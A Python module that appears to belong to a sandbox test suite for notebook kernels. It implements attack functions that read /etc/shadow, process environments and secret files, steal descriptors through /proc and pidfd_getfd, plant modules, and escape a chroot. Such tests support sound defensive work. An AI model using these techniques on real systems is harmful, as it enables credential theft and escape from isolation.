"""Attacks on the files, descriptors and environment variables of the host."""

from __future__ import annotations

import ctypes
import glob
import os
import socket
import stat
from collections.abc import Iterator

from .toolbox import (
    BLOCKED,
    UnavailableError,
    Verdict,
    World,
    attack,
    checked,
    first_success,
    in_child,
    libc,
    open_and_close,
    process_ids,
    read,
    steal_any,
    stolen,
    system_call,
)


@attack()
def reads_a_file_of_the_users_home(world: World) -> Verdict:
    return stolen(read(world["home_secret"]))


@attack()
def reads_a_file_beside_the_notebook(world: World) -> Verdict:
    return stolen(read(world["notebook_secret"]))


@attack()
def reads_a_file_in_the_hosts_temporary_folder(world: World) -> Verdict:
    return stolen(read(world["temporary_secret"]))


@attack()
def reads_etc_shadow(world: World) -> Verdict:
    return stolen(read("/etc/shadow"))


@attack()
def reads_the_kernels_connection_file(world: World) -> Verdict:
    return steal_any(glob.glob(world["runtime_folder"] + "/kernel-*.json"))


@attack()
def reads_the_hosts_environment_from_its_own(world: World) -> Verdict:
    return stolen(b"\n".join(value for value in os.environb.values()))


@attack()
def reads_the_environment_of_process_1(world: World) -> Verdict:
    return stolen(read("/proc/1/environ"))


@attack()
def reads_the_environment_of_any_process(world: World) -> Verdict:
    return steal_any(f"/proc/{pid}/environ" for pid in process_ids())


@attack()
def reads_through_the_root_of_process_1(world: World) -> Verdict:
    return stolen(read("/proc/1/root" + world["home_secret"]))


@attack()
def reads_through_any_process(world: World) -> Verdict:
    """A process's root, working folder and open files, whoever it belongs to."""
    return steal_any(_ways_through_processes(world["home_secret"], os.path.basename(world["notebook_secret"])))


def _ways_through_processes(absolute: str, relative: str) -> Iterator[str]:
    for pid in process_ids():
        yield f"/proc/{pid}/root{absolute}"
        yield f"/proc/{pid}/cwd/{relative}"
        yield from _regular_files_open_in(pid)


def _regular_files_open_in(pid: int) -> Iterator[str]:
    try:
        names = os.listdir(f"/proc/{pid}/fd")
    except BLOCKED:
        return
    for name in names:
        path = f"/proc/{pid}/fd/{name}"
        try:
            regular = stat.S_ISREG(os.stat(path).st_mode)
        except BLOCKED:
            continue
        if regular:
            yield path


@attack()
def reads_through_a_symbolic_link_in_the_work_folder(world: World) -> Verdict:
    link = f"link-{os.getpid()}"
    os.symlink(world["home_secret"], link)
    try:
        return stolen(read(link))
    finally:
        os.unlink(link)


@attack()
def reads_through_a_hard_link_in_the_work_folder(world: World) -> Verdict:
    link = f"hard-link-{os.getpid()}"
    os.link(world["home_secret"], link)
    try:
        return stolen(read(link))
    finally:
        os.unlink(link)


@attack()
def reads_by_climbing_out_of_the_work_folder(world: World) -> Verdict:
    return stolen(read("../" * 40 + world["home_secret"].lstrip("/")))


@attack()
def reads_through_an_inherited_descriptor(world: World) -> Verdict:
    """Descriptors that the process which started the kernel left open: of a secret file, and of its folder."""
    name = os.path.basename(world["home_secret"])
    for descriptor in range(256):
        for read_it in (_read_open_file, _read_in_open_folder):
            try:
                found, detail = stolen(read_it(descriptor, name))
            except BLOCKED:
                continue
            if found:
                return True, f"{detail} from descriptor {descriptor}"
    return False, "no descriptor leads to it"


def _read_open_file(descriptor: int, name: str) -> bytes:
    return os.pread(descriptor, 4096, 0)


def _read_in_open_folder(descriptor: int, name: str) -> bytes:
    return read(name, dir_fd=descriptor)


@attack()
def finds_a_descriptor_that_leads_out_of_the_sandbox(world: World) -> Verdict:
    """The link to the kernel process would be one: a connected socket whose other end an invisible process made."""
    for descriptor in range(256):
        if _leads_to_outsider(descriptor, world["outside_pid"]):
            return True, f"descriptor {descriptor} of this process"
    for pid in process_ids():
        if pid != os.getpid() and (number := _steal_outside_socket(pid, world["outside_pid"])) is not None:
            return True, f"descriptor {number} of process {pid}"
    return False, "no socket leads out"


def _steal_outside_socket(pid: int, outsider: int) -> int | None:
    try:
        process = system_call("pidfd_open", pid, 0)
    except BLOCKED:
        return None
    try:
        for number in range(128):
            try:
                copy = system_call("pidfd_getfd", process, number, 0)
            except BLOCKED:
                continue
            try:
                if _leads_to_outsider(copy, outsider):
                    return number
            finally:
                os.close(copy)
    finally:
        os.close(process)
    return None


def _leads_to_outsider(descriptor: int, outsider: int) -> bool:
    try:
        if not stat.S_ISSOCK(os.fstat(descriptor).st_mode):
            return False
        with socket.socket(fileno=os.dup(descriptor)) as end:
            if end.family != socket.AF_UNIX:
                return False
            end.getpeername()
            credentials = end.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12)
    except BLOCKED:
        return False
    # Seen from another process namespace, a process outside it has the number 0.
    return int.from_bytes(credentials[:4], "little") in (0, outsider)


@attack(trace="terminal")
def writes_to_the_users_terminal(world: World) -> Verdict:
    """Through an inherited descriptor, the controlling terminal, or another process's descriptors."""
    paths = ["/dev/tty", *(f"/proc/{pid}/fd/{number}" for pid in process_ids() for number in range(3))]
    return first_success(_write_to_terminal, paths)


def _write_to_terminal(path: str) -> None:
    descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY)
    try:
        os.ttyname(descriptor)
        os.write(descriptor, b"\033]0;written by an attack\007")
    finally:
        os.close(descriptor)


@attack(trace="planted files")
def plants_a_file_in_the_users_home(world: World) -> Verdict:
    return _plant(world["home"])


@attack(trace="planted files")
def plants_a_file_beside_the_notebook(world: World) -> Verdict:
    return _plant(world["notebook_folder"])


@attack(trace="planted files")
def plants_a_module_in_the_python_environment(world: World) -> Verdict:
    return _plant(world["packages_folder"])


@attack(trace="planted files")
def plants_a_kernelspec_in_the_python_environment(world: World) -> Verdict:
    return _plant(world["kernelspec_folder"])


@attack(trace="planted files")
def plants_a_file_through_any_process(world: World) -> Verdict:
    return first_success(_plant, (f"/proc/{pid}/root{world['home']}" for pid in process_ids()))


def _plant(folder: str) -> Verdict:
    path = f"{folder}/planted-by-an-attack"
    with open(path, "w") as file:
        file.write("import os")
    return True, path


@attack(trace="programs")
def changes_the_program_of_a_process_outside(world: World) -> Verdict:
    """The program file of process 1 may be one of the host's, reached through the host's own mount.

    Outside only the program that the test made for it is touched.
    """
    victim = world["program_pid"]
    pids = [victim] if os.path.exists(f"/proc/{victim}") else process_ids()
    return first_success(_touch, (f"/proc/{pid}/exe" for pid in pids))


def _touch(path: str) -> None:
    found = os.stat(path)
    os.utime(path, ns=(found.st_atime_ns, found.st_mtime_ns))


@attack(root=True)
def opens_a_device_of_the_machine(world: World) -> Verdict:
    # A fixed list: opening some devices, such as a watchdog, has an effect.
    names = ("mem", "kmem", "port", "kvm", "loop0", "loop-control", "sda", "vda", "xvda", "nvme0n1", "hwrng")
    return first_success(open_and_close, (f"/dev/{name}" for name in names))


@attack(root=True)
def makes_a_device_node(world: World) -> Verdict:
    """A harmless one (`/dev/null` under another name); what can make it can make the disk's."""
    path = f"device-{os.getpid()}"
    os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 3))
    try:
        os.close(os.open(path, os.O_RDONLY))
    finally:
        os.unlink(path)
    return True, "made and opened"


class _Handle(ctypes.Structure):
    _fields_ = (("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128))


@attack(root=True)
def opens_a_file_by_its_handle(world: World) -> Verdict:
    """Any descriptor on the same file system is enough, the work folder's for one."""
    if not world["home_secret_handle"]:
        raise UnavailableError("the file system of the temporary folder has no handles")
    kind, data = world["home_secret_handle"]
    raw = bytes.fromhex(data)
    handle = _Handle(len(raw), kind)
    ctypes.memmove(handle.data, raw, len(raw))
    folder = os.open(".", os.O_RDONLY)
    descriptor = checked(libc.open_by_handle_at(folder, ctypes.byref(handle), os.O_RDONLY), "open_by_handle_at")
    return stolen(os.read(descriptor, 4096))


@attack(root=True)
def leaves_a_change_of_root(world: World) -> Verdict:
    """The classic way out of a chroot: make another one inside it and climb from a descriptor outside the new one."""

    def escape() -> Verdict:
        os.makedirs("deeper", exist_ok=True)
        here = os.open(".", os.O_RDONLY)
        os.chroot("deeper")
        os.fchdir(here)
        for _ in range(40):
            os.chdir("..")
        os.chroot(".")
        return stolen(read(world["home_secret"]))

    return in_child(escape)
